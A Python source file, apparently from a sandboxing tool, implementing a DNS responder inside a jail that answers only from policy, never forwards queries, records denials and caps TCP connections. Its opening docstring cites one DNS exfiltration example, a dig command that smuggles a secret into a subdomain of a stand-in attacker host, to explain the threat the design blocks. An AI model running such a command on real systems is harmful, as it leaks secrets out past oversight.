"""DNS inside the jail: answered from the policy alone.

No query ever leaves, so a name cannot carry data out (`dig $SECRET.evil.test`). A name that the policy could
allow gets an address that stands for it; of every other name we say that it does not exist, and put it on record.
To say that we refuse would be more to the point, but programs take that for a server in trouble and try again.
"""

from __future__ import annotations

import asyncio
import logging
import socket
from collections.abc import Sequence
from ipaddress import IPv4Address, IPv6Address
from typing import Final, Protocol

from exeat.errors import HostError
from exeat.gateway.doors.synthetic import SyntheticNames
from exeat.gateway.record.denials import DNS, Denials
from exeat.gateway.state import State
from exeat.policy import Decision, Name, Reason, Verdict, canonical_host, could_allow, unreachable
from exeat.wire.dns import (
    CLASS_IN,
    MAX_QUERY_BYTES,
    Answer,
    DnsError,
    QType,
    Query,
    Rcode,
    encode_answer,
    encode_error,
    parse_query,
    parse_reverse,
    type_name,
)

_log = logging.getLogger("exeat")

# Short, so that programs which heed it come back here; the address stays good for much longer (GRACE_S).
TTL_S: Final = 60
PORT: Final = 53
_LOCALHOST: Final = (IPv4Address("127.0.0.1"), IPv6Address("::1"))
_NOT_LISTED: Final = Decision(Verdict.DENY, None, Reason.NOT_LISTED)

Outcome = tuple[Rcode, tuple[Answer, ...]]


class DnsDoor:
    """Answers DNS queries. It must never resolve anything, nor give out an address of a name that is not allowed."""

    def __init__(self, state: State, names: SyntheticNames) -> None:
        self._state = state
        self._names = names
        self._denials = Denials(state)
        self._sockets: list[asyncio.DatagramTransport] = []
        self._servers: list[asyncio.Server] = []
        self._streams: set[Stream] = set()

    # Sockets

    async def start(self, udp: Sequence[socket.socket], tcp: Sequence[socket.socket]) -> None:
        """Answer on these bound sockets, of whatever network namespace. They are the door's from here on."""
        loop = self._state.loop
        try:
            for sock in udp:
                transport, _ = await loop.create_datagram_endpoint(lambda: Datagrams(self._respond), sock=sock)
                self._sockets.append(transport)
            for sock in tcp:
                self._servers.append(await loop.create_server(self._make_stream, sock=sock))
        except BaseException:
            await self.close()
            for sock in (*udp, *tcp):
                sock.close()
            raise

    async def close(self) -> None:
        """Stop answering, cut what is open, and put the last repeats on record. The journal must still be open."""
        for transport in self._sockets:
            transport.close()
        for server in self._servers:
            server.close()
        for stream in list(self._streams):
            stream.abort()
        self._sockets.clear()
        self._servers.clear()
        self._denials.close()
        await asyncio.sleep(0)  # transports let go of their sockets in the next turn of the loop

    def _make_stream(self) -> Stream:
        return Stream(self._state.loop, self._respond, self._streams)

    def _respond(self, data: bytes, *, tcp: bool) -> bytes | None:
        try:
            return self.answer(data, tcp=tcp)
        except Exception:
            # A defect of ours. Silence is safe; an exception here could end the socket for everybody.
            self._state.counters.internal_errors += 1
            _log.exception("a DNS query could not be answered")
            return None

    # Rules

    def answer(self, data: bytes, *, tcp: bool) -> bytes | None:
        """The answer to one message. None: there must be none."""
        try:
            query = parse_query(data)
        except DnsError as error:
            if error.rcode is not None:
                self._denials.add(DNS, "", PORT, "", "malformed", note=error.public)
            return encode_error(error)
        return encode_answer(query, *self._judge(query), tcp=tcp)

    def _judge(self, query: Query) -> Outcome:
        if query.qclass != CLASS_IN:
            return self._refuse(query, _NOT_LISTED, note=f"class {query.qclass}")
        if query.qtype == QType.PTR:
            return self._judge_reverse(query)
        name = _name_of(query)
        if name is None:
            return self._refuse(query, _NOT_LISTED, note="not a host name")
        if name.text == "localhost" or name.text.endswith(".localhost"):  # RFC 6761: nobody else is to be asked
            return _give(query, _LOCALHOST)
        policy = self._state.policy  # of this moment: it may be swapped between two queries
        if not could_allow(policy, name):
            denial = unreachable(policy, name)
            if self._state.questions is None or not self._state.questions.may_ask(denial):
                return self._refuse(query, denial)
            # Somebody may allow it, but only who connects is worth a question. Until then nothing leaves.
        if query.qtype not in (QType.A, QType.AAAA):
            return Rcode.NOERROR, ()  # the name is there, and has nothing of this type
        addresses = self._names.addresses(name.text)
        if addresses is None:
            self._denials.add(DNS, name.text, PORT, type_name(query.qtype), "no-address-left")
            return Rcode.SERVFAIL, ()
        return _give(query, addresses)

    def _judge_reverse(self, query: Query) -> Outcome:
        """Which name an address has. Only our own addresses have one; other questions can carry data, so they count."""
        ip = parse_reverse(query.name)
        name = None if ip is None else "localhost" if ip in _LOCALHOST else self._names.name_of(ip)
        if name is None:
            return self._refuse(query, _NOT_LISTED)
        return Rcode.NOERROR, (Answer(name, TTL_S),)

    def _refuse(self, query: Query, decision: Decision, note: str = "") -> Outcome:
        rule = decision.rule.text if decision.rule is not None else ""
        self._denials.add(DNS, query.name, PORT, type_name(query.qtype), decision.reason, rule=rule, note=note)
        return Rcode.NXDOMAIN if query.qclass == CLASS_IN else Rcode.REFUSED, ()


def _name_of(query: Query) -> Name | None:
    """The name as the policy knows it. What reads as an address is no name, and must not be looked up as one."""
    if not query.plain:
        return None
    try:
        host = canonical_host(query.name)
    except HostError:
        return None
    return host if isinstance(host, Name) else None


def _give(query: Query, addresses: tuple[IPv4Address, IPv6Address]) -> Outcome:
    """The address of the family that was asked for; nothing for any other type."""
    match query.qtype:
        case QType.A:
            return Rcode.NOERROR, (Answer(addresses[0], TTL_S),)
        case QType.AAAA:
            return Rcode.NOERROR, (Answer(addresses[1], TTL_S),)
        case _:
            return Rcode.NOERROR, ()


MAX_CONNECTIONS: Final = 64
MAX_QUERIES: Final = 128  # of one connection
_QUERIES_A_TURN: Final = 4  # then the other connections have theirs
# Between two whole queries, and for an answer to be taken. Single bytes put nothing off (slowloris).
IDLE_S: Final = 10.0
_WRITE_HIGH_BYTES: Final = 16 * 1024


class Responder(Protocol):
    """Gives the answer to a message, or None where there must be none. Never raises."""

    def __call__(self, data: bytes, *, tcp: bool) -> bytes | None: ...


class Datagrams(asyncio.DatagramProtocol):
    """One UDP socket."""

    def __init__(self, respond: Responder) -> None:
        self._respond = respond
        self._paused = False
        self._transport: asyncio.DatagramTransport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self._transport = transport  # type: ignore[assignment]  # datagram protocols get a DatagramTransport

    def datagram_received(self, data: bytes, addr: tuple[str, int]) -> None:
        if self._transport is None or self._paused:
            return  # answers pile up: losing one is what UDP does, and clients ask again
        reply = self._respond(data, tcp=False)
        if reply is not None:
            self._transport.sendto(reply, addr)

    def error_received(self, exc: Exception) -> None:
        """Somebody did not wait for an answer. That is no error of this socket."""

    def pause_writing(self) -> None:
        self._paused = True

    def resume_writing(self) -> None:
        self._paused = False


class Stream(asyncio.Protocol):
    """One TCP connection: messages with two bytes of length before each (RFC 1035 section 4.2.2).

    `others` are the connections that are open; each puts itself in and takes itself out.
    """

    def __init__(self, loop: asyncio.AbstractEventLoop, respond: Responder, others: set[Stream]) -> None:
        self._loop = loop
        self._respond = respond
        self._others = others
        self._buffer = bytearray()
        self._queries = 0
        self._paused = False
        self._is_due = False
        self._timer: asyncio.TimerHandle | None = None
        self._transport: asyncio.Transport = None  # type: ignore[assignment]  # set before anything can use it

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self._transport = transport  # type: ignore[assignment]  # stream protocols get a Transport
        if len(self._others) >= MAX_CONNECTIONS:
            self.abort()
            return
        self._others.add(self)
        self._transport.set_write_buffer_limits(high=_WRITE_HIGH_BYTES)
        self._wait()

    def data_received(self, data: bytes) -> None:
        self._buffer += data
        if not self._is_due:
            self._serve()

    def pause_writing(self) -> None:
        """The peer does not take its answers: read no more questions, so that nothing piles up here."""
        self._paused = True
        self._update_reading()

    def resume_writing(self) -> None:
        self._paused = False
        if not self._is_due:
            self._serve()

    def connection_lost(self, exc: Exception | None) -> None:
        self._others.discard(self)
        if self._timer is not None:
            self._timer.cancel()

    def abort(self) -> None:
        self._transport.abort()

    def _wait(self) -> None:
        if self._timer is not None:
            self._timer.cancel()
        self._timer = self._loop.call_later(IDLE_S, self.abort)

    def _serve(self) -> None:
        """Answer the queries that are here, some of them in each turn of the loop."""
        self._is_due = self._answer_some()
        if self._is_due:
            self._loop.call_soon(self._serve)
        self._update_reading()

    def _update_reading(self) -> None:
        if self._transport.is_closing():
            return
        if self._paused or self._is_due:
            self._transport.pause_reading()
        else:
            self._transport.resume_reading()

    def _answer_some(self) -> bool:
        """True: there may be more. A close still sends what was written, until the timer ends it."""
        buffer, transport = self._buffer, self._transport
        for _ in range(_QUERIES_A_TURN):
            if len(buffer) < 2 or self._paused or transport.is_closing():
                return False
            end = 2 + int.from_bytes(buffer[:2])
            if end > 2 + MAX_QUERY_BYTES:
                transport.close()  # no query of ours is that long, and it is not worth the memory to be sure
                return False
            if len(buffer) < end:
                return False
            reply = self._respond(bytes(buffer[2:end]), tcp=True)
            del buffer[:end]
            self._queries += 1
            if reply is not None:
                transport.write(len(reply).to_bytes(2) + reply)
                self._wait()
            if reply is None or self._queries >= MAX_QUERIES:
                transport.close()
        return True
